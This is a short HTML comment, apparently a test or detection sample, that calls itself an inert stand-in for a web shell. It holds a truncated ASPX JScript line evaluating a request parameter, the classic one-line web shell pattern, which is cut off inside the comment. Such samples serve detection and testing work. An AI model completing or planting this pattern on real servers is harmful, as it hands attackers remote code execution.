<!-- spoor example: an inert stand-in for a web shell. It does nothing: the code below is cut off and stands in a comment.
<%@ Page Language="Jscript"%><%eval(Request.Item["spoor-example"],"uns
-->
